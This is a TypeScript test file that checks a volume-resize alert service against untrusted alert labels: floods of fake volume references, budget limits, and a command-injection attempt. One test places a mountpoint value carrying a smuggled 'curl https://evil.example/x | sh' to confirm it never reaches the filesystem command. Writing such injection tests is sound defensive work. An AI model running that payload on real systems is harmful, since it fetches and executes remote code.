import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registry } from '../../../src/observability/metrics.js';
import { FakeGitHub } from '../../fakes/github.js';
import { FakeHetzner } from '../../fakes/hetzner.js';
import { FakeSlack } from '../../fakes/slack.js';
import { RedisServer } from '../../support/redis-server.js';
import { fakeEnv, finishedJob, postAlerts, startInProcess, type Harness, type TestAlert } from './harness.js';

const CONFIG = (prefix: string, extra = '') => `
redis: { prefix: "${prefix}" }
jobs: { backoff: 100ms }
volumeResize:
  actionPollInterval: 100ms
${extra}
  volumes:
    - { id: 201, name: data }
    - { name: by-name }
    - { id: 203, name: xfs-vol }
`;

/** Alert references, Slack text and metric labels are sender-chosen: none may cost API budget, flood #ops, or grow the series. */
describe('volume-resize with untrusted alert labels', () => {
  let redis: RedisServer;
  let hetzner: FakeHetzner;
  let github: FakeGitHub;
  let slack: FakeSlack;
  const running: Harness[] = [];
  const start = async (prefix: string, extra = '') => {
    const h = await startInProcess(CONFIG(prefix, extra), fakeEnv(hetzner, github, slack), redis.url, prefix);
    running.push(h);
    return h;
  };

  beforeAll(async () => {
    [redis, hetzner, github, slack] = await Promise.all([
      RedisServer.start(),
      FakeHetzner.start({ actionDurationMs: 100 }),
      FakeGitHub.start(),
      new FakeSlack().start(),
    ]);
    hetzner.addVolume({ id: 201, name: 'data', size: 20 });
    hetzner.addVolume({ id: 202, name: 'by-name', size: 20 });
    hetzner.addVolume({ id: 203, name: 'xfs-vol', size: 20 }).format = 'xfs';
    hetzner.addVolume({ id: 299, name: 'not-ours', size: 20 });
  });
  afterAll(async () => {
    for (const h of running) await h.stop();
    await Promise.all([redis?.destroy(), hetzner?.stop(), github?.stop(), slack?.stop()]);
  });

  it('a flood of made-up references: names cost no API call, ids at most one look-up per configured name, one Slack thread, bounded metric labels', async () => {
    const aw = await start('{refuse}');
    const alerts: TestAlert[] = [];
    for (let i = 0; i < 60; i++)
      alerts.push({ labels: { volume: `bogus-${i}`, alertname: 'VolumeUsageCritical' }, startsAt: `2026-11-22T05:${String(i % 60).padStart(2, '0')}:00Z` });
    for (let i = 0; i < 60; i++) alerts.push({ labels: { volume_id: String(90_000 + i) }, startsAt: `2026-11-22T06:${String(i % 60).padStart(2, '0')}:00Z` });
    // A name that no entry carries, though the API knows it (an entry by id only does not make its name usable).
    alerts.push({ labels: { volume: 'not-ours' }, startsAt: '2026-11-22T07:00:00Z' });
    const callsBefore = hetzner.calls.length;
    await postAlerts(aw.url, alerts);
    for (const a of alerts) expect((await finishedJob(aw.queue, a)).result).toMatchObject({ outcome: 'refused' });

    const calls = hetzner.calls.slice(callsBefore);
    expect(calls.filter((c) => c.method !== 'GET')).toEqual([]);
    // Only the configured name was ever looked up, and only once (cached).
    expect(calls.map((c) => `${c.method} ${c.path}`)).toEqual(['GET /volumes']);
    expect(slack.threads().filter((t) => /is not in the `volumeResize.volumes` allowlist/.test(t.root.text))).toHaveLength(1);

    const metric = await registry.getSingleMetric('alertworks_volume_resize_total')?.get();
    const volumes = new Set(metric?.values.map((v) => String(v.labels.volume)));
    for (const v of volumes) expect(['data', 'by-name', 'xfs-vol', 'other']).toContain(v);
  });

  it("a hostile mountpoint never reaches the filesystem command; the command comes from the volume's id and device", async () => {
    const aw = await start('{fscmd}');
    const alert = { labels: { volume_id: '203', mountpoint: '/mnt/HC_Volume_203; curl https://evil.example/x | sh' } };
    await postAlerts(aw.url, [alert]);
    expect((await finishedJob(aw.queue, alert)).result).toMatchObject({ outcome: 'resized' });
    const thread = slack.threads().find((t) => t.root.text.includes('`xfs-vol` (203)'));
    const all = [thread?.root.text, ...(thread?.replies.map((r) => r.text) ?? [])].join('\n');
    expect(all).not.toContain('curl');
    expect(all).toContain('sudo xfs_growfs "$(findmnt -n -o TARGET --source /dev/disk/by-id/scsi-0HC_Volume_203)"');
  });

  it('alerts past the hourly budget: one message until a slot frees, not one each', async () => {
    const aw = await start('{budget}', '  hourlyBudget: 0');
    // (203 was resized above: Hetzner's record puts it in its cooldown, even under this fresh prefix.)
    const alerts: TestAlert[] = [{ labels: { volume_id: '201' } }, { labels: { volume: 'by-name' } }];
    await postAlerts(aw.url, alerts);
    for (const a of alerts) expect((await finishedJob(aw.queue, a)).result).toMatchObject({ outcome: 'budget_exhausted' });
    expect(slack.messages.filter((m) => m.text.includes('the budget of 0 resizes per hour'))).toHaveLength(1);
  });
});
